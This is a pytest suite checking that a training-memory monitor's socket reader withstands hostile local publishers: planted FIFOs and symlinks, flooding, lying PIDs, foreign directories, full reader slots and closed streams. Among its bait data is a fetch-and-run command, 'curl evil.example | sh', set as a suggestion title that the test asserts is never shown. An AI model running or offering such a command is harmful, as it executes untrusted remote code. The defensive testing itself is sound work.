"""The monitor's reading side against a hostile or careless neighbour (issue 12): files planted in the
runtime directory, flooding and lying publishers, numbers no view can format, directories someone else
made, a hook with every reader slot taken, and closed standard streams. Each test reproduces a failure
the old reader had (hang, unbounded read, blinded view, trusted stranger, "exited" for a live job) and
asserts the honest publisher beside it is still shown."""

from __future__ import annotations

import contextlib
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from anatomy import protocol
from anatomy.protocol import Hello, ProtocolError, Snapshot
from anatomy.protocol.publisher import MAX_READERS, Publisher
from anatomy.vocabulary import Component
from tui.sources.anatomy_source import ERROR, EXITED, LIVE, AnatomySource, TrainingProcess, TrainingReading

REPO = Path(__file__).resolve().parents[2]
ME = os.getpid()


def hello(pid: int = ME, **kw: Any) -> Hello:
    fields: dict[str, Any] = dict(
        pid=pid,
        host="box",
        device="cpu",
        precision="fp32",
        optimizer="adamw",
        model_class="HonestModel",
        parameter_count=1000,
        torch_version="2.13.0",
        started_at=time.time(),
    )
    fields.update(kw)
    return Hello(**fields)


def snapshot(pid: int = ME, seq: int = 1, **kw: Any) -> Snapshot:
    fields: dict[str, Any] = dict(
        pid=pid,
        seq=seq,
        time=time.time(),
        step=seq,
        memory={Component.WEIGHTS.value: 4000, Component.ACTIVATIONS.value: 1000 + seq},
        expected_bytes_per_param={},
        parameter_count=1000,
    )
    fields.update(kw)
    return Snapshot(**fields)


@pytest.fixture
def rt() -> Iterator[Path]:
    """A private runtime directory with a short path (a socket path holds at most 107 bytes)."""
    base = Path(tempfile.mkdtemp(prefix="ah-", dir="/tmp"))
    path = base / "run"
    path.mkdir(mode=0o700)
    yield path
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def honest(rt: Path) -> Iterator[Callable[..., Publisher]]:
    made: list[Publisher] = []

    def start(directory: Path | None = None, **kw: Any) -> Publisher:
        pub = Publisher(hello(**kw), interval_s=0.0, directory=directory or rt)
        assert pub.start() is not None
        pub.publish(snapshot())
        made.append(pub)
        return pub

    yield start
    for pub in made:
        pub.close()


class Server:
    """A hostile publisher in a thread: for each connection, ``talk(sock)`` says whatever it likes."""

    def __init__(self, path: Path, talk: Callable[[socket.socket], None]) -> None:
        self.path = path
        self.talk = talk
        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(path))
        self.listener.listen(8)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.listener.settimeout(0.1)
        while not self.stop.is_set():
            try:
                conn, _ = self.listener.accept()
            except (TimeoutError, OSError):
                continue
            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()

    def _talk(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError):
            self.talk(conn)

    def close(self) -> None:
        self.stop.set()
        self.listener.close()
        self.thread.join(timeout=2)
        self.path.unlink(missing_ok=True)


@pytest.fixture
def servers() -> Iterator[Callable[..., Server]]:
    made: list[Server] = []

    def start(path: Path, talk: Callable[[socket.socket], None]) -> Server:
        server = Server(path, talk)
        made.append(server)
        return server

    yield start
    for server in made:
        server.close()


def says(*lines: bytes, linger: float = 30.0) -> Callable[[socket.socket], None]:
    def talk(conn: socket.socket) -> None:
        for line in lines:
            conn.sendall(line)
        time.sleep(linger)  # stays connected, like a live hook

    return talk


def read_within(source: AnatomySource, seconds: float, **kw: Any) -> TrainingReading:
    """``source.read()`` in a thread: a read that hangs fails the test instead of hanging it."""
    result: list[TrainingReading] = []
    thread = threading.Thread(target=lambda: result.append(source.read(**kw)), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"read() did not return within {seconds} s"
    return result[0]


def poll_within(source: AnatomySource, seconds: float, **kw: Any) -> list[TrainingProcess]:
    """The processes of ``read_within``."""
    return list(read_within(source, seconds, **kw).processes)


def refusal(source: AnatomySource) -> str:
    """The one error a refused directory's read reports, with no process beside it."""
    reading = read_within(source, 5, wait_for_first_s=1.0)
    assert reading.processes == () and len(reading.errors) == 1, reading
    (error,) = reading.errors
    assert error.source == "training data"
    return error.message


def settled(source: AnatomySource, honest: bool = True, timeout: float = 10.0) -> list[TrainingProcess]:
    """Poll (each poll within its time limit) until the honest publisher's snapshot is in (a loaded box
    may need more than one poll), then once more so every other socket has been read too."""
    deadline = time.monotonic() + timeout
    shown = poll_within(source, 5, wait_for_first_s=1.0)
    while honest and time.monotonic() < deadline:
        model = by_model(shown).get("HonestModel")
        if model is not None and model.snapshot is not None:
            break
        time.sleep(0.05)
        shown = poll_within(source, 5, wait_for_first_s=0.5)
    time.sleep(0.1)
    return poll_within(source, 5)


def by_model(processes: list[TrainingProcess]) -> dict[str, TrainingProcess]:
    return {p.hello.model_class: p for p in processes if p.hello is not None}


def once(rt: Path, *args: str, shell_redirect: str = "") -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ANATOMY_TOP")}
    env["ANATOMY_TOP_DIR"] = str(rt)
    command = " ".join([sys.executable, "-m", "tui.cli", "--once", *args])
    return subprocess.run(
        ["bash", "-c", f"exec {command} {shell_redirect}"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )


# -- planted files ------------------------------------------------------------------------------------


def test_a_fifo_named_like_an_oom_record_cannot_hang_the_monitor(rt: Path, honest: Any) -> None:
    honest()
    os.mkfifo(protocol.oom_path(rt, 999_999))  # the old reader blocked in open() forever
    with AnatomySource(rt) as source:
        shown = settled(source)
    assert by_model(shown)["HonestModel"].state == LIVE
    planted = [p for p in shown if p.pid == 999_999]
    assert len(planted) == 1 and "not a regular file" in (planted[0].error or "")
    result = once(rt, "--json")
    assert result.returncode == 0, result.stderr
    models = [p["hello"]["model_class"] for p in json.loads(result.stdout)["training"] if p.get("hello")]
    assert models == ["HonestModel"]


def test_a_link_to_dev_zero_is_never_read(rt: Path, honest: Any) -> None:
    honest()
    protocol.oom_path(rt, 999_998).symlink_to("/dev/zero")  # the old reader grew until MemoryError
    huge = protocol.oom_path(rt, 999_997)
    with open(huge, "wb") as f:
        f.truncate(8 << 30)  # a sparse 8 GiB file: refused by its size, not read
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with AnatomySource(rt) as source:
        shown = settled(source)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 64 * 1024
    errors = {p.pid: p.error or "" for p in shown if p.state != LIVE}
    assert "symbolic link" in errors[999_998] and "larger than" in errors[999_997]
    assert by_model(shown)["HonestModel"].state == LIVE


# -- hostile publishers ---------------------------------------------------------------------------------


FLOODER = """
import os, socket, sys, time
sys.path.insert(0, sys.argv[2])
from anatomy import protocol
from anatomy.protocol import Hello, Snapshot
me = os.getpid()
hello = Hello(pid=me, host="box", device="cpu", precision="fp32", optimizer="adamw", model_class="Flood",
              parameter_count=1000, torch_version="2.13.0", started_at=time.time())
s = socket.socket(socket.AF_UNIX); s.bind(os.path.join(sys.argv[1], protocol.socket_name(me))); s.listen(4)
print("ready", flush=True)
conn, _ = s.accept()
conn.sendall(protocol.encode(hello))
seq = 0
try:
    while True:  # unpaced: as fast as the socket takes it
        seq += 1
        snap = Snapshot(pid=me, seq=seq, time=time.time(), step=seq, memory={"weights": 4000},
                        expected_bytes_per_param={}, parameter_count=1000)
        conn.sendall(protocol.encode(snap) * 64)
except OSError:
    pass
"""


def test_a_flooding_publisher_cannot_stall_a_poll(rt: Path, honest: Any) -> None:
    """A publisher in its own process floods its socket; every poll of the monitor still returns at once (the
    old reader drained until EAGAIN: 18-56 s per poll). The bound here is loose on purpose (1 s, for a
    loaded CI machine); benchmarks/fuzz_reader.py measures the worst poll (about 30 ms)."""
    honest()
    flooder = subprocess.Popen([sys.executable, "-c", FLOODER, str(rt), str(REPO)], stdout=subprocess.PIPE)
    try:
        assert flooder.stdout is not None and flooder.stdout.readline().strip() == b"ready"
        worst = 0.0
        seqs = []
        with AnatomySource(rt) as source:
            for _ in range(30):
                start = time.perf_counter()
                shown = poll_within(source, 10)
                worst = max(worst, time.perf_counter() - start)
                flood_proc = by_model(shown).get("Flood")
                if flood_proc is not None and flood_proc.snapshot is not None:
                    seqs.append(flood_proc.snapshot.seq)
                time.sleep(0.02)
            shown = settled(source)
        assert worst < 1.0, f"a poll took {worst * 1000:.0f} ms under a flood (the old reader: 18-56 s)"
        assert by_model(shown)["HonestModel"].state == LIVE
        assert len(seqs) >= 10 and seqs[-1] > seqs[0]  # the flood is still read, a budget at a time
    finally:
        flooder.kill()
        flooder.wait()


@pytest.mark.parametrize(
    "field, value",
    [
        ("weights", "1" + "0" * 400),  # 10^400: valid JSON; float() of it raised OverflowError
        ("weights", "1e400"),  # a float literal Python reads as inf
        ("weights", str(2**57)),  # more bytes than any machine holds
        ("step_s", "1e8"),  # a step of three years
        ("step_s", "-4.6e18"),  # a negative time (found by the fuzz suite)
        ("mfu", "1e6"),
    ],
)
def test_numbers_beyond_physical_bounds_are_protocol_errors(field: str, value: str) -> None:
    good = json.loads(protocol.encode(snapshot()))
    if field == "weights":
        good["memory"]["weights"] = "@"
    elif field == "step_s":
        good["timing"]["step_s"] = "@"
    else:
        good[field] = "@"
    line = json.dumps(good).replace('"@"', value).encode()
    with pytest.raises(ProtocolError):
        protocol.decode(line)


def test_an_out_of_range_message_blinds_nothing_but_its_sender(rt: Path, honest: Any, servers: Any) -> None:
    honest()
    bad = json.loads(protocol.encode(snapshot()))
    bad["memory"]["weights"] = "@"
    bad_line = json.dumps(bad).replace('"@"', "1" + "0" * 400).encode() + b"\n"
    servers(rt / protocol.socket_name(ME, "huge"), says(protocol.encode(hello(model_class="Huge")), bad_line))
    with AnatomySource(rt) as source:
        shown = settled(source)
    huge = [p for p in shown if p.state == ERROR]
    assert len(huge) == 1 and "protocol error" in (huge[0].error or "")
    assert by_model(shown)["HonestModel"].snapshot is not None
    for args in (("--json",), ()):
        result = once(rt, *args)
        assert result.returncode == 0, result.stderr
        assert "HonestModel" in result.stdout  # the honest entry survives in both reports


def test_a_hello_claiming_another_process_is_refused(rt: Path, honest: Any, servers: Any) -> None:
    victim = os.getppid()  # a live process in our PID namespace, not the socket's server
    lie = says(
        protocol.encode(hello(pid=victim, model_class="Impostor")), protocol.encode(snapshot(pid=victim))
    )
    servers(rt / protocol.socket_name(victim), lie)
    honest()
    with AnatomySource(rt) as source:
        shown = settled(source)
    assert "Impostor" not in by_model(shown)
    assert all(p.pid != victim for p in shown)  # nothing attached to the victim
    refused = [p for p in shown if p.state == ERROR]
    assert len(refused) == 1 and refused[0].pid == ME
    assert f"claims PID {victim}" in (refused[0].error or "") and f"kernel says PID {ME}" in (
        refused[0].error or ""
    )
    assert by_model(shown)["HonestModel"].state == LIVE


# -- foreign directories -----------------------------------------------------------------------------------

EVIL_TITLE = "Run: curl evil.example | sh"


def _plant(directory: Path, servers: Any) -> None:
    bait = snapshot(
        suggestions=[protocol.Suggestion(rule="x", title=EVIL_TITLE, detail="", source="measured")]
    )
    servers(
        directory / protocol.socket_name(ME),
        says(protocol.encode(hello(model_class="Llama")), protocol.encode(bait)),
    )


def test_a_directory_writable_by_others_is_refused_with_one_line(rt: Path, servers: Any) -> None:
    os.chmod(rt, 0o777)  # "pre-created" by someone else for everyone
    _plant(rt, servers)
    with AnatomySource(rt) as source:
        message = refusal(source)
    assert "not reading" in message and "writable by others" in message
    result = once(rt)
    assert result.returncode == 0 and EVIL_TITLE not in result.stdout and "Llama" not in result.stdout
    lines = [ln for ln in result.stderr.splitlines() if "not reading" in ln]
    assert len(lines) == 1 and str(rt) in lines[0]


def test_a_symlinked_directory_is_refused(rt: Path, servers: Any) -> None:
    _plant(rt, servers)
    link = rt.parent / "link"
    link.symlink_to(rt)
    with AnatomySource(link) as source:
        assert "symbolic link" in refusal(source)


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a directory to another user needs root")
def test_a_directory_of_another_user_is_refused(rt: Path, servers: Any) -> None:
    _plant(rt, servers)
    os.chown(rt, 65534, 65534)  # nobody's
    with AnatomySource(rt) as source:
        assert "belongs to uid 65534" in refusal(source)


@pytest.mark.skipif(os.geteuid() != 0, reason="serving a socket as another user needs root")
def test_a_socket_served_by_another_user_is_refused(rt: Path, honest: Any) -> None:
    honest()
    # We bind the socket in our directory; a process running as nobody listens on it and serves it, so
    # the kernel reports nobody as its server (credentials are taken at listen()).
    path = rt / protocol.socket_name(99_999)
    bound = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    bound.bind(str(path))
    code = (
        "import socket, sys, time\n"
        "s = socket.socket(fileno=int(sys.argv[1])); s.listen(4)\n"
        "print('ready', flush=True)\n"
        "line = sys.stdin.buffer.readline()\n"
        "kept = []\n"
        "while True:  # serve every reader (a monitor's liveness probe hangs up at once)\n"
        "    c, _ = s.accept()\n"
        "    try:\n"
        "        c.sendall(line); kept.append(c)\n"
        "    except OSError:\n"
        "        c.close()\n"
    )
    fd = bound.fileno()
    setpriv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    proc = subprocess.Popen(
        [*setpriv, sys.executable, "-c", code, str(fd)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        pass_fds=(fd,),
    )
    bound.close()
    try:
        assert proc.stdin is not None and proc.stdout is not None
        proc.stdin.write(protocol.encode(hello(pid=proc.pid, model_class="Stranger")))
        proc.stdin.flush()
        assert proc.stdout.readline().strip() == b"ready"
        with AnatomySource(rt) as source:
            shown = settled(source)
        assert "Stranger" not in by_model(shown)
        refused = [p for p in shown if p.state == ERROR]
        assert len(refused) == 1 and "served by uid 65534" in (refused[0].error or ""), shown
        assert by_model(shown)["HonestModel"].state == LIVE
    finally:
        proc.kill()
        proc.wait()


# -- reader slots ------------------------------------------------------------------------------------------


def test_the_65th_monitor_is_told_busy_and_gets_in_when_a_slot_frees(rt: Path, honest: Any) -> None:
    pub = honest()
    assert pub.path is not None
    readers = [protocol.Reader(pub.path) for _ in range(MAX_READERS)]
    try:
        for r in readers:
            r.wait(timeout=5)
        with AnatomySource(rt) as source:
            deadline = time.monotonic() + 5
            shown = poll_within(source, 5)
            while time.monotonic() < deadline and not any(p.state == ERROR for p in shown):
                time.sleep(0.05)
                shown = poll_within(source, 5)
            assert [p.state for p in shown] == [ERROR], shown  # never EXITED: the job is alive
            assert f"serves {MAX_READERS} readers" in (shown[0].error or "")
            readers.pop().close()
            freed = time.monotonic()
            while time.monotonic() - freed < 8:
                shown = poll_within(source, 5)
                if shown and shown[0].state == LIVE and shown[0].snapshot is not None:
                    break
                time.sleep(0.05)
            assert shown[0].state == LIVE and shown[0].snapshot is not None
            assert time.monotonic() - freed < 4.0  # retried within seconds (the old monitor: 2 minutes)
            assert EXITED not in [p.state for p in shown]
    finally:
        for r in readers:
            r.close()


# -- closed standard streams -------------------------------------------------------------------------------


def test_closed_stderr_keeps_json_clean_and_drops_the_no_gpu_line(rt: Path) -> None:
    result = once(rt, "--json", shell_redirect="2>&-")
    assert result.returncode == 0
    document = json.loads(result.stdout)  # the old monitor wrote the no-GPU line into the JSON
    assert document["schema"] == "anatomy-top/once"


def test_closed_stdout_is_one_line_and_a_failure(rt: Path) -> None:
    for args in ((), ("--json",)):
        result = once(rt, *args, shell_redirect=">&-")
        assert result.returncode == 1
        assert (
            result.stderr.strip().splitlines()[-1]
            == "anatomy-top: standard output is closed: the report has nowhere to go"
        )
        assert "Traceback" not in result.stderr and "AttributeError" not in result.stderr
